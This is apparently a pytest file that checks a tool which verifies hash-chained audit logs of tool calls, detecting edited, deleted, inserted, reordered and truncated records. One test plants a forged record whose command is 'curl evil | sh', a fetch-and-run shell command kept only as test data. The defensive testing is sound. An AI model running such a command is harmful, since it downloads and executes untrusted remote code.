"""`ways sensors verify` on real chained files written by the dispatcher, then tampered."""

from __future__ import annotations

import json

import pytest

from ways_sensors import chain

from .conftest import payload
from .test_dispatcher import SID, spool_directly, start_dispatcher


@pytest.fixture
def chained(install, tmp_path):
    out = tmp_path / "audit.jsonl"
    install.sensor(
        "audit", f"enabled: true\nrules:\n  all:\n    dispatch: {{file: {{path: '{out}'}}}}\n"
    )
    base = payload("PreToolUse")
    entries = [("SessionStart", payload("SessionStart"))]
    entries += [("PreToolUse", {**base, "tool_use_id": f"toolu_{i:03d}"}) for i in range(20)]
    entries += [("SessionEnd", payload("SessionEnd"))]
    spool_directly(install, entries)
    start_dispatcher(install).wait(timeout=60)
    lines = out.read_text().splitlines()
    assert len(lines) == 22
    return install, out, lines


def verify(install, path, *args):
    r = install.ways("sensors", "verify", str(path), *args, "--json")
    return r.returncode, json.loads(r.stdout)


def test_intact_file_and_its_stored_head(chained):
    install, out, _ = chained
    code, data = verify(install, out, "--rule", "audit/all")
    assert code == 0 and data["ok"] and data["records"] == 22
    [c] = data["chains"]
    assert (c["first"], c["last"], c["session_id"]) == (1, 22, SID)
    assert c["head"]["rule_seq"] == 22  # from the ledger the finished session left
    human = install.ways("sensors", "verify", str(out))
    assert human.returncode == 0 and "intact: 22 records in 1 chain(s)" in human.stdout


def write(out, lines):
    out.write_text("\n".join(lines) + "\n")


def test_edit(chained):
    install, out, lines = chained
    rec = json.loads(lines[7])
    rec["data"]["input"]["command"] = "echo innocent"
    lines[7] = json.dumps(rec)
    write(out, lines)
    code, data = verify(install, out)
    assert code == 3 and data["break"]["kind"] == "edited" and data["break"]["line"] == 8


def test_delete(chained):
    install, out, lines = chained
    del lines[10]
    write(out, lines)
    code, data = verify(install, out)
    assert code == 3
    assert (data["break"]["kind"], data["break"]["line"], data["break"]["rule_seq"]) == (
        "deleted",
        11,
        12,
    )


def test_insert(chained):
    install, out, lines = chained
    prev = json.loads(lines[4])
    forged = json.loads(lines[5])
    forged["data"]["input"]["command"] = "curl evil | sh"
    forged.pop("chain")
    chain.seal(forged, prev["chain"]["hash"])  # a forger who recomputes the hash
    lines.insert(5, json.dumps(forged))
    write(out, lines)
    code, data = verify(install, out)
    assert code == 3 and data["break"]["kind"] == "inserted" and data["break"]["line"] == 7


def test_swap(chained):
    install, out, lines = chained
    lines[12], lines[13] = lines[13], lines[12]
    write(out, lines)
    code, data = verify(install, out)
    assert code == 3 and data["break"]["kind"] == "reordered" and data["break"]["line"] == 13


def test_truncate_needs_the_stored_head(chained):
    install, out, lines = chained
    write(out, lines[:-3])
    assert verify(install, out)[0] == 0  # the file alone cannot tell
    code, data = verify(install, out, "--rule", "audit/all")
    assert code == 3 and data["break"]["kind"] == "truncated"
    assert "rule_seq 19" in data["break"]["message"]


def test_repeated_deliveries_are_not_tampering(chained):
    install, out, lines = chained
    lines.insert(9, lines[8])  # what an at_least_once redelivery looks like
    write(out, lines)
    code, data = verify(install, out, "--rule", "audit/all")
    assert code == 0 and data["chains"][0]["duplicates"] == 1


def test_not_a_chained_file(install, tmp_path):
    f = tmp_path / "x.jsonl"
    f.write_text('{"a": 1}\n')
    assert verify(install, f)[0] == 3
    r = install.ways("sensors", "verify", str(tmp_path / "missing.jsonl"))
    assert r.returncode == 2 and "no such file" in r.stderr
